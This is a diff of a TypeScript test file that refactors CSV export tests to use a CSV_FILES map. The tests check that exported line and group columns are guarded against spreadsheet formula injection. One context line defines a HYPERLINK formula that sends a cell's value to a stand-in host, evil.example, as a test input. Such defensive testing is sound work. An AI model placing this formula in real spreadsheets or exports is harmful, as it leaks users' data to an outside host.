@@ -10,7 +10,7 @@ import { GROUP_KEYS } from '../reconcile/group-keys.ts'
 import type { ColumnKind } from './csv.ts'
 import { toGroupColumns } from './group-columns.ts'
 import { LINE_COLUMNS } from './line-columns.ts'
-import { streamGroupsCsv, streamLinesCsv } from './stream-csv.ts'
+import { CSV_FILES } from './stream-csv.ts'
 import { parseCsvRecords, readAll } from './test-parse-csv.ts'
 
 const FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
@@ -92,14 +92,16 @@ function expectHarmless(columns: readonly { name: string; kind: ColumnKind }[], 
 }
 
 test('A13: of a line in which every text is a formula, each column of the file is guarded or of our own words', async () => {
-  const rows = parseCsvRecords(await readAll(await streamLinesCsv(organizationId, somebody(), DEFAULT_LINE_QUERY)))
+  const rows = parseCsvRecords(
+    await readAll(await CSV_FILES.lines.stream(organizationId, somebody(), DEFAULT_LINE_QUERY)),
+  )
   expect(rows).toHaveLength(1)
   expectHarmless(LINE_COLUMNS, rows[0] as Record<string, string>)
 })
 
 test('A13: so it is in the file of groups, by every key', async () => {
   const query = { ...DEFAULT_GROUP_QUERY, by: [...GROUP_KEYS] }
-  const rows = parseCsvRecords(await readAll(await streamGroupsCsv(organizationId, somebody(), query)))
+  const rows = parseCsvRecords(await readAll(await CSV_FILES.groups.stream(organizationId, somebody(), query)))
   expect(rows).toHaveLength(1)
   expectHarmless(toGroupColumns(query.by), rows[0] as Record<string, string>)
 })
